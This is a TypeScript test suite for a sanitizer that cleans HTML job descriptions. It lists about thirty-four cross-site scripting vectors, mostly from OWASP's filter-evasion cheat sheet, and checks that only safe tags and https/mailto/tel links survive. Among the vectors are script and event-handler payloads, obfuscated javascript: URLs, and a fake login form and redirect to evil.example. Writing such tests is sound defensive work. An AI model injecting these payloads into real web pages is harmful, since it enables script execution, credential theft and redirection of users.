import { describe, expect, it } from 'vitest';
import { cleanJobHtml, sanitized } from '../../../functions/feed/job-html.ts';
import { isPlainHtml } from '../../../functions/feed/plain-html.ts';
import { readList, timesAsLong } from '../../support/processor-time.ts';
import { random } from '../../support/random.ts';

/** Ways to make a browser run something, most of them from the OWASP cheat sheet on XSS filter evasion. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/admin">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div onmouseover="alert(1)" id="root" class="ant-btn" data-x="1">x</div>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>*{display:none}</style>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>',
  '<b/onclick=alert(1)//>x<b <script>alert(1)</script>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><marquee onstart=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

/** Tags and attributes that may be left, and nothing else. */
const allowedTag =
  /^<\/?(?:p|br ?\/?|hr ?\/?|div|span|blockquote|pre|code|h[1-6]|b|strong|i|em|u|s|small|sub|sup|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|a)>$|^<a href="(?:https:|mailto:|tel:)[^"<>]*" rel="noopener noreferrer nofollow">$/;

function expectHarmless(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag, html).toMatch(allowedTag);
}

describe('the description of a job', () => {
  it.each(hostile)('comes out harmless: %s [J07] [R23]', (vector) => {
    expectHarmless(cleanJobHtml(vector));
    expectHarmless(cleanJobHtml(`<p>${vector}</p>`));
    expect(cleanJobHtml(cleanJobHtml(vector))).toBe(cleanJobHtml(vector));
  });

  it('comes out harmless however the vectors are put together [R23]', () => {
    const dice = random(23);
    for (let round = 0; round < 500; round++) {
      const parts = Array.from({ length: 1 + dice.whole(4) }, () => {
        const vector = dice.pick(hostile);
        return vector.slice(dice.whole(5), vector.length - dice.whole(5));
      });
      expectHarmless(cleanJobHtml(parts.join(dice.pick(['', '"', '<', '>', '<p>']))));
    }
  });

  it('keeps paragraphs, lists, tables and links, and marks links as not ours', () => {
    expect(cleanJobHtml('<p>Nights in <b>Oakville</b></p><ul><li>BLS &amp; ACLS</li></ul>')).toBe(
      '<p>Nights in <b>Oakville</b></p><ul><li>BLS &amp; ACLS</li></ul>',
    );
    expect(cleanJobHtml('<a href="https://ok.example/x?a=1&b=2" rel="opener">x</a>')).toBe(
      '<a href="https://ok.example/x?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(cleanJobHtml('\u0001 <p><a href="  https://ok.example  ">x</a></p> ')).toBe(
      '<p><a href="https://ok.example" rel="noopener noreferrer nofollow">x</a></p>',
    );
    expect(cleanJobHtml('<a href="ftp://ok.example">x</a><a>y</a>')).toBe('<a>x</a><a>y</a>');
    expect(cleanJobHtml('<a href="mailto:jobs@ok.example">m</a><a href="tel:+15550100">t</a>')).toContain(
      'href="tel:+15550100"',
    );
    expect(cleanJobHtml('Just text, 100% plain.\nTwo lines.')).toBe('<p>Just text, 100% plain.<br />Two lines.</p>');
    expect(cleanJobHtml('ratio 1 < 2 & more')).toBe('ratio 1 &lt; 2 &amp; more');
  });

  it('is left as it is where its tags are plain and close in order [R23] [Z06]', () => {
    const nested = (tags: number) => `${'<div>'.repeat(tags)}x${'</div>'.repeat(tags)}`;
    for (const html of [
      '',
      'x',
      '<p>x</p>',
      'a<br />&amp;',
      '<ul><li><p>x</p></li></ul>',
      '<b>a</b><i>b</i>',
      nested(10),
    ])
      expect([html, isPlainHtml(html)]).toEqual([html, true]);
    for (const html of [
      '<p>',
      '</p>',
      '<p><b>x</p></b>',
      '<p>x</b>',
      '<li>x</li>',
      '<p><p>x</p></p>',
      '<P>x</P>',
      nested(11),
    ])
      expect([html, isPlainHtml(html)]).toEqual([html, false]);
  });

  it('is left as it is only where the cleaning would leave it as it is [R23]', () => {
    const dice = random(31);
    const tags = [
      'p',
      'b',
      'em',
      'span',
      'ul',
      'ol',
      'li',
      'div',
      'h1',
      'h6',
      'blockquote',
      'table',
      'td',
      'a',
      'script',
    ];
    const pieces = ['text', ' ', '\n', '\r\n', '"quoted"', 'é 護', '&amp;', '&lt;', '&gt;', '<br />', '<hr />'];
    const odd = [
      '<br>',
      '<hr/>',
      '&nbsp;',
      '&',
      '<',
      '>',
      '</',
      '<p >',
      '<P>',
      '<p class="x">',
      '<!-- -->',
      '&#60;',
      '\u0001',
    ];
    const aTree = (depth: number): string =>
      Array.from({ length: 1 + dice.whole(3) }, () => {
        if (depth === 0 || dice.whole(3) === 0) return dice.pick(dice.whole(30) === 0 ? odd : pieces);
        const tag = dice.pick(tags.slice(0, dice.whole(8) === 0 ? tags.length : 10));
        return `<${tag}>${aTree(depth - 1)}</${dice.whole(40) === 0 ? dice.pick(tags) : tag}>`;
      }).join('');
    const soup = () => [...tags.flatMap((tag) => [`<${tag}>`, `</${tag}>`]), ...pieces, ...odd];
    let [plain, other] = [0, 0];
    for (let round = 0; round < 20_000; round++) {
      const html = (
        round % 2 ? aTree(1 + dice.whole(12)) : Array.from({ length: dice.whole(9) }, () => dice.pick(soup())).join('')
      ).trim();
      if (isPlainHtml(html)) expect(sanitized(html)).toBe(html);
      if (html.includes('<')) isPlainHtml(html) ? plain++ : other++;
    }
    // Both kinds have been tried, and often.
    expect(plain).toBeGreaterThan(1_000);
    expect(other).toBeGreaterThan(1_000);
  });

  it.each([
    ['<div>', 10_000],
    ['<', 50_000],
    ['<a href="', 5_000],
  ])('takes less than the time of forty lists of names for %s, nested without end', async (markup, count) => {
    const clean = () => expectHarmless(cleanJobHtml(markup.repeat(count)));
    expect(await timesAsLong(clean, readList, 40)).toBeLessThan(40);
  });
});
